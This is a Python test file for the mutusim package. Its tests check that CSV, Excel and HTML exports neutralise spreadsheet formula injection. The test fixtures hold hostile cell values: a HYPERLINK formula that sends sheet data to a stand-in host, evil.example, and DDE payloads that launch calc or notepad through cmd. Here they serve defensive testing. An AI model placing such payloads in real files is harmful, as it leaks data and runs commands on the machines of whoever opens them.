"""Safe exports: no text cell is ever read as a formula by a spreadsheet (issue 7.6, OWASP).

A name such as ``=HYPERLINK("http://…?"&A1, "Angers")`` written in a CSV or xlsx
cell runs when the file is opened (and can leak the sheet's data). Every writer
of mutusim — result tables and workbook, territory folder and workbook — writes
such text as text; the territory writers round-trip it exactly.
"""

from __future__ import annotations

import csv
import math
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import mutusim as ms
from mutusim._files import FORMULA_STARTS, safe_text, unquote_text
from mutusim.inputs.examples import tiny_frames
from mutusim.inputs.io import load_territory, write_excel, write_folder
from mutusim.present.report import write_html
from mutusim.present.workbook import write_result

HOSTILE = {
    "49001": '=HYPERLINK("http://evil.example/?d="&A1,"Bourg")',
    "49002": "+cmd|' /C calc'!A0",
    "49003": "-2+3+cmd|' /C notepad'!A0",
}
SERVICES = {"rh_paie": "@SUM(1+1)*cmd|' /C calc'!A0", "ads": "=1+1 $x^$ ADS"}


def hostile() -> ms.Territory:
    f = tiny_frames()
    f["communes"]["name"] = f["communes"]["commune"].map(HOSTILE)
    f["services"]["name"] = f["services"]["service"].map(SERVICES)
    f["services"]["domain"] = ["\t=1+1 (tab)", "'=already quoted"]
    return ms.territory_from_frames(**f)


def is_number(text: str) -> bool:
    try:
        return math.isfinite(float(text.replace(",", ".")))
    except ValueError:
        return False


def dangerous_csv_cells(path: Path, sep: str = ",") -> list[str]:
    """Cells of a CSV file that a spreadsheet would read as a formula."""
    text = path.read_text(encoding="utf-8-sig")
    rows = csv.reader(text.splitlines(), delimiter=sep)
    return [c for row in rows for c in row if c.startswith(FORMULA_STARTS) and not is_number(c)]


def formula_cells(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)  # not data_only: formulas are seen as formulas
    return [
        f"{ws.title}!{cell.coordinate}"
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.mark.parametrize("sep", [",", ";"])
def test_territory_folder_is_safe_and_round_trips(tmp_path, sep):
    t = hostile()
    folder = write_folder(t, tmp_path, sep=sep)
    for f in folder.glob("*.csv"):
        assert dangerous_csv_cells(f, sep) == [], f.name
    assert load_territory(folder).equals(t)


def test_territory_workbook_is_safe_and_round_trips(tmp_path):
    t = hostile()
    path = write_excel(t, tmp_path / "t.xlsx")
    assert formula_cells(path) == []
    book = openpyxl.load_workbook(path)
    names = [c.value for c in book["communes"]["B"][1:]]
    assert names == [HOSTILE[c] for c in t.communes.index]  # shown exactly as written
    assert load_territory(path).equals(t)


def test_result_tables_and_workbook_are_safe(tmp_path):
    res = ms.optimise(hostile())
    paths = write_result(res, tmp_path, ms.analyse(res))
    for name, path in paths.items():
        if name != "workbook":
            assert dangerous_csv_cells(path) == [], name
    assert formula_cells(paths["workbook"]) == []
    # the names read back exactly once the quote is taken off
    decisions = list(csv.DictReader(paths["decisions"].read_text(encoding="utf-8").splitlines()))
    assert {unquote_text(r["commune_name"]) for r in decisions} == set(HOSTILE.values())
    assert {unquote_text(r["service_name"]) for r in decisions} == set(
        res.territory.services["name"]
    )
    by_commune = list(csv.DictReader(paths["by_commune"].read_text(encoding="utf-8").splitlines()))
    assert {unquote_text(r["name"]) for r in by_commune} == set(HOSTILE.values())
    book = openpyxl.load_workbook(paths["workbook"])
    shown = {c.value for ws in book.worksheets for row in ws.iter_rows() for c in row}
    assert set(HOSTILE.values()) <= shown


def test_report_renders_names_as_text(tmp_path):
    # "$x^$" would be read as a matplotlib formula and lose the report
    res = ms.optimise(hostile())
    path = write_html(res, tmp_path / "rapport.html", ms.analyse(res))
    html = path.read_text(encoding="utf-8")
    assert "$x^$ ADS" in html
    assert "=HYPERLINK(&quot;http://evil.example" in html  # escaped, never markup


@given(st.text(max_size=30))
def test_safe_text_is_reversible_and_never_starts_like_a_formula(text):
    safe = safe_text(text)
    assert unquote_text(safe) == text
    assert not safe.startswith(FORMULA_STARTS)
    if not text.startswith(("'", *FORMULA_STARTS)):
        assert safe == text  # ordinary names are written unchanged


def test_numbers_and_other_values_pass_unchanged():
    assert safe_text(-5.0) == -5.0
    assert safe_text(None) is None
    assert safe_text("Angers") == "Angers"
    assert safe_text("'s-Hertogenbosch") == "'s-Hertogenbosch"
